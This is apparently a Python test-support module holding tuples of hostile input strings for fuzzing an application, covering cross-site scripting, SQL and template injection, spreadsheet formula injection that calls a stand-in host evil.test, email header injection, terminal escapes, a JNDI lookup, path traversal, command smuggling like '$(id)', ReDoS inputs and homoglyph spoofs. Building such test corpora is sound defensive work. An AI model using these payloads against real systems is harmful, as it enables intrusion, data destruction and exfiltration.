"""Hostile texts of our own, and the larger collections beside the checkout where they are there."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from typing import Any

import pytest

FOLDER = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "hostile"
needs_collection = pytest.mark.skipif(not FOLDER.is_dir(), reason="needs ../shared/data/hostile beside the checkout")

MARKUP = (
    "<script>document.title='x'</script>", "\"><svg onload=\"fetch('//evil.test')\">", "'><img src=//evil.test/a onerror=x>",
    "</title></style></textarea></noscript><iframe srcdoc=x>", "<!--<base href=//evil.test>-->", "<a href=java\tscript:x>x</a>",
    "]]><math><mtext></form><form><mglyph><style></math><img src onerror=x>", "&lt;b&gt; &#x3c;b&#x3e;", "<link rel=stylesheet href=//evil.test>",
    "<style>@import url(//evil.test)</style>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "`${x}` {{x}} <%x%>", "\x00<b>\x0c",
)  # fmt: skip
SQL = (
    "'; DROP TABLE accounts; --", "' OR '1'='1", '" OR ""="', "\\'; SELECT 1 --", "1; ATTACH DATABASE 'x' AS y", "%' AND 1=0 UNION SELECT 1 --",
    "a%_\\b", ":id ? $1 %(x)s {x}", "x' || sqlite_version() || '", "/**/", "0x27", "\u02bc OR 1=1", "NULL", "\\x00", "COPY x TO PROGRAM 'id'",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(a)s%n%s",
    "$(id)`id`", "{{'a'.join(config)}}", "[[${7*7}]]", "@(1+1)", "{{self._TemplateReference__context}}", "{% raw %}{{ x }}{% endraw %}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test?"&A1)',
    '=IMPORTXML("http://evil.test","//a")', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "a,=1+1", "a;=1+1",
    "{=1+1}", "\x00=1+1", "\u202e=1+1", "\u00a0=1+1", "\x85=1",
)  # fmt: skip
HEADERS = (
    "Library\r\nBcc: all@evil.test", "Library\nBcc: all@evil.test", "Library\rBcc: all@evil.test", "Library\u2028Bcc: x", "Library\u2029x",
    "Library\x85Bcc: x", "Library\x0bx", "Library\x0cx", "Library\x1cx", "Library\x00x", "a@b.test>,<c@evil.test", "a@b.test, c@evil.test",
    "=?utf-8?q?=0D=0ABcc:_all=40evil.test?=", "\u202eelpmaxe.b@a", "a" * 5_000, "-oQ/tmp@b.test", '"a\\"<c@evil.test>" <a@b.test>', "a@[127.0.0.1]", "a(b)@c.test",
)  # fmt: skip
LINES = (
    "ok\n2026-11-22 INFO run finished", "ok\r\nERROR x", "\x1b[2J\x1b[1;1H", "\x1b]0;title\x07", "\x1b]8;;http://evil.test\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m", "\x9d0;x\x9c", "%s%n{0.__class__}", "${jndi:ldap://evil.test/a}", "\u2028x\u2029", "\x00x", "\x08\x08hidden", "\x85next", "\u202etxt.exe",
    "\u2066\u2067\u2068\u2069", "\x1bP$q\x1b\\", "\x1b[6n\x1b[5i", "\x7f\x7f", "\ud800",
)  # fmt: skip
IDS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "a/../../b", ".", "..", "...", " ", "con", "NUL", "aux.txt", "a" * 300, "a\u202eb",
    "a b", "a%2f..%2fb", "~root", "-rf", "--config=/etc/x", "$(id)", "a;b", "a|b", "*", "?", "\u0430dmin", "ADMIN", "admin", "e\u0301", "\u00e9", "a:b",
    "<b>", "'", '"', "\\", "index", "run", "index.html", "\U0001f600",
)  # fmt: skip
REDOS = (
    "a" * 20_000 + "!", "Mon-" * 5_000, "Mon-Fri " * 5_000, "9am-" * 5_000, "0" * 50_000, " " * 50_000, "monitored " * 5_000, "\u0301" * 10_000,
    "(" * 20_000, "a@" * 20_000, "http://" * 7_000, "." * 50_000 + "com", "\n" * 50_000, "Mon-Fri 9-5 " * 4_000, "@" * 20_000, "#" * 20_000,
    "24/7" * 10_000, "\u200d" * 20_000, "1," * 20_000, "-" * 50_000, "a." * 20_000, "9:" * 20_000, "+44 7" * 8_000, "we reply not " * 4_000,
)  # fmt: skip
SPOOFS = (
    "Univ\u0435rsity of Liverpool", "\uff35\uff2e\uff29", "\U0001d4b0niversity", "Li\u200bverpool", "\u202elooprevil", "Uni\u00adversity", "L\u0456verpool",
    "\u13a2verpool", "Liverpoo\u217c", "\u24d4xam", "\u2066Bank\u2069",
)  # fmt: skip


@cache
def collected(name: str) -> tuple[str, ...]:
    """The strings of one file of the collection; nothing where it is absent."""
    path = FOLDER / name
    if not path.is_file():
        return ()
    if name.endswith(".json"):
        told: Any = json.loads(path.read_text(encoding="utf-8"))
        return tuple(x for x in told if isinstance(x, str))
    return tuple(filter(None, path.read_text(encoding="utf-8", errors="replace").splitlines()))


def content(name: str) -> bytes:
    """One file of the collection as bytes."""
    return (FOLDER / name).read_bytes()
